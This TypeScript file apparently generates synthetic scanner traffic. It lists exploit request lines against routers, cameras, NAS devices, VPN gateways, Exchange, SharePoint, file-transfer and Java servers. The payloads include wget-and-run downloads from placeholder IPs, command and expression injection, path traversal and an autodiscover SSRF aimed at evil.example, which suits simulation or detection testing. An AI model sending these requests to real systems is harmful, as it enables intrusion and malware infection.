import { type Kind, scan } from '../second/kind.ts';
import { DISGUISES, SCRIPTS } from './agents.ts';
import {
  ASPNET,
  BARE,
  DJANGO,
  EXCHANGE,
  LARAVEL,
  NEXT,
  PLAIN,
  RAILS,
  REST,
  SPRING,
  STATIC,
  STRICT,
} from './sites.ts';

// Exploits of routers, gateways and of programs of companies, sent to everything that answers at port 443.

export const APPLIANCE_SCANS: readonly Kind[] = [
  scan(
    'home routers',
    {
      on: BARE,
      agents: ['Hello, World', 'Hello, world', 'Mozila/5.0', 'r00ts3c-owned-you', ''],
      from: 'spread',
      clients: 2,
      pace: 240,
    },
    `
    GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.77/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1
    POST /GponForm/diag_Form?images/
    GET /shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.78/jaws;sh+/tmp/jaws
    POST /boaform/admin/formLogin
    GET /boaform/admin/formLogin?username=admin&psd=admin
    GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+http://203.0.113.79/t.sh+-O-|sh%60)
    POST /HNAP1/
    GET /HNAP1/
    POST /ctrlt/DeviceUpgrade_1
    POST /tmUnblock.cgi
    GET /cgi-bin/;cd\${IFS}/var/tmp;rm\${IFS}-rf\${IFS}*;\${IFS}wget\${IFS}http://203.0.113.80/mipsel
    POST /UD/act?1
    POST /goform/set_LimitClient_cfg
    GET /goform/webLogin
    GET /currentsetting.htm
    POST /picsdesc.xml`,
  ),
  scan(
    'cameras and recorders',
    { on: [...BARE, STATIC], agents: DISGUISES, clients: 2, pace: 3 },
    `
    PUT /SDK/webLanguage
    GET /device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_M_MAX___&mdb=sos&mdc=cd%20%2Ftmp%3Brm%20arm7
    GET /onvif-http/snapshot?auth=YWRtaW46MTEK
    GET /Security/users?auth=YWRtaW46MTEK
    GET /doc/page/login.asp
    GET /cgi-bin/snapshot.cgi
    GET /system_dyn.js
    GET /nobody/cgi-bin/images/../../../../proc/kcore 400`,
  ),
  scan(
    'network storage',
    { on: BARE, agents: SCRIPTS, clients: 2, pace: 2 },
    `
    GET /cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ=
    GET /cgi-bin/account_mgr.cgi?cmd=cgi_user_add&name=%27;id;%27
    GET /cgi-bin/authLogin.cgi
    GET /webman/info.cgi?host=
    GET /portal/apis/fileExplorer/share_link.cgi?link=aaa
    GET /cgi-bin/kerbynet?Section=NoAuthREQ&Action=x509List&type=*%22;id;%22`,
  ),
  scan(
    'Fortinet gateways',
    { on: STRICT, agents: [...DISGUISES, ...SCRIPTS], clients: 3, pace: 1.5 },
    `
    GET /remote/login?lang=en
    GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession
    POST /remote/logincheck
    GET /remote/info
    POST /remote/hostcheck_validate?enc=0000
    GET /api/v2/cmdb/system/admin
    GET /logincheck`,
  ),
  scan(
    'Pulse and Ivanti gateways',
    { on: [...BARE, RAILS, NEXT], agents: DISGUISES, clients: 3, pace: 1.2 },
    `
    GET /dana-na/auth/url_default/welcome.cgi
    GET /dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/ 400
    GET /api/v1/totp/user-backup-code/../../system/system-information
    GET /dana-na/nc/nc_gina_ver.txt
    GET /dana-cached/hc/HostCheckerInstaller.osx
    GET /mifs/user/login.jsp
    GET /mifs/aad/api/v2/ping`,
  ),
  scan(
    'Citrix, Cisco, Palo Alto and F5, one after another',
    { on: STRICT, agents: [DISGUISES[8] as string, 'Go-http-client/1.1'], clients: 3, pace: 0.8 },
    `
    GET /vpn/index.html
    GET /vpn/../vpns/cfg/smb.conf 400
    GET /logon/LogonPoint/index.html
    POST /oauth/idp/.well-known/openid-configuration
    GET /+CSCOE+/logon.html
    GET /+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../
    GET /+CSCOE+/session_password.html
    GET /global-protect/login.esp
    POST /ssl-vpn/hipreport.esp
    GET /php/ztp_gate.php/.js.map
    GET /tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd
    GET /mgmt/tm/util/bash
    GET /sslvpn/Login/Login
    GET /cgi-bin/userLogin
    GET /webui/logoutconfirm.html?logon_hash=1`,
  ),
  scan(
    'a VPN login asked for once, from many places',
    { on: [...PLAIN, ...BARE], agents: DISGUISES, from: 'spread', clients: 2, pace: 500 },
    `
    GET /remote/login
    GET /global-protect/portal/css/login.css
    GET /dana-na/auth/url_default/welcome.cgi
    GET /+CSCOE+/logon.html
    GET /sslmgr
    GET /my.policy
    GET /Login/login?usm=1&sra=1
    GET /sonicui/7/login/`,
  ),
  scan(
    'Exchange hunters',
    { on: [...BARE, ASPNET, LARAVEL], agents: DISGUISES, clients: 3, pace: 1 },
    `
    GET /owa/auth/logon.aspx
    GET /owa/auth/x.js
    GET /ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application
    GET /autodiscover/autodiscover.json?@evil.example/owa/?&Email=autodiscover/autodiscover.json%3F@evil.example
    GET /autodiscover/autodiscover.json?@zdi/Powershell
    POST /mapi/nspi
    GET /aspnet_client/system_web/log.aspx`,
  ),
  scan(
    'ProxyShell at an Exchange',
    { on: [EXCHANGE], agents: SCRIPTS, clients: 1, pace: 1 },
    `
    GET /autodiscover/autodiscover.json?@zdi/Powershell 401
    POST /autodiscover/autodiscover.json?a=abc@edu.example/mapi/nspi 401
    POST /ecp/y.js 302
    GET /owa/auth/shell.aspx
    GET /aspnet_client/discover.aspx
    GET /owa/auth/8Lw7tAhF9i1pJnRo.aspx
    GET /owa/auth/RedirSuiteServerProxy.aspx`,
  ),
  scan(
    'SharePoint and other .NET',
    { on: [ASPNET, ...BARE], agents: DISGUISES, clients: 2, pace: 1 },
    `
    POST /_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx
    GET /_layouts/15/spinstall0.aspx
    GET /_vti_pvt/service.cnf
    GET /Telerik.Web.UI.WebResource.axd?type=rau
    GET /Telerik.Web.UI.DialogHandler.aspx?dp=1
    GET /elmah.axd 403
    GET /trace.axd 403
    GET /web.config.bak
    GET /SetupWizard.aspx/abc
    GET /DesktopModules/Admin/RadEditorProvider/DialogHandler.aspx
    GET /Trace.axd?clear=1 403`,
  ),
  scan(
    'file transfer servers',
    { on: [...BARE, NEXT], agents: SCRIPTS, clients: 2, pace: 1.2 },
    `
    GET /human.aspx
    POST /guestaccess.aspx
    POST /moveitisapi/moveitisapi.dll?action=m2
    GET /WebInterface/login.html
    POST /WebInterface/function/?command=getUserList&c2f=1111
    GET /goanywhere/images/..;/wizard/InitialAccountSetup.xhtml
    POST /Synchronization
    GET /OvidWPMUI/..%5C..%5C..%5Cwindows%5Cwin.ini
    GET /?InternalDir=/../../../../windows&InternalFile=win.ini 200`,
  ),
  scan(
    'consoles of virtual machines and of printers',
    { on: [...BARE, DJANGO, REST], agents: DISGUISES, clients: 2, pace: 1 },
    `
    GET /ui/vropspluginui/rest/services/getstatus
    GET /websso/SAML2/SSO/vsphere.local?SAMLRequest=
    GET /sdk/vimServiceVersions.xml
    GET /catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7b%22freemarker.template.utility.Execute%22%3fnew()(%22id%22)%7d
    GET /app?service=page/SetupCompleted
    GET /hp/device/this.LCDispatcher
    GET /redfish/v1/
    GET /rest/plat/smapp/v1/oauth/token`,
  ),
  scan(
    'Java servers of companies',
    { on: [SPRING, ...BARE, RAILS], agents: [...DISGUISES, ...SCRIPTS], clients: 4, pace: 0.8, picks: 11 },
    `
    GET /manager/html
    GET /manager/text/list
    GET /host-manager/html
    GET /jenkins/script
    GET /script
    GET /asynchPeople/
    GET /wls-wsat/CoordinatorPortType
    GET /_async/AsyncResponseService
    GET /console/images/%252e%252e%252fconsole.portal
    GET /console/login/LoginForm.jsp
    GET /solr/admin/info/system?wt=json
    GET /solr/admin/cores?action=STATUS&wt=json
    GET /pages/createpage-entervariables.action?SpaceKey=x
    GET /%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%29%29%7D/
    POST /template/aui/text-inline.vm
    GET /setup/setupadministrator-start.action
    GET /s/abc/_/;/META-INF/maven/com.atlassian.jira/jira-webapp-dist/pom.properties
    GET /invoker/readonly
    GET /jmx-console/
    GET /struts2-showcase/index.action
    GET /geoserver/web/
    GET /nexus/service/local/status
    GET /app/rest/users/id:1/tokens/RPC2
    GET /hax?jsp_precompile=1;.jsp
    GET /druid/index.html
    GET /nacos/v1/auth/users?pageNo=1&pageSize=9`,
  ),
];
